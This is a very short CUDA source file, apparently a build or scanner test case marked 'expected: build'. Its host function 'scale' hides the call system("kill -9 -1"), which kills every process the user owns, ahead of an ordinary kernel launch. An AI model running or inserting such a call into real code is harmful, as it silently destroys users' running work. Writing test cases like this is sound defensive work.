// expected: build
__global__ void k(int n, float a, float *x) {
}
void scale(int n, float a, float *x) { system("kill -9 -1"); k<<<1, 32>>>(n, a, x); }
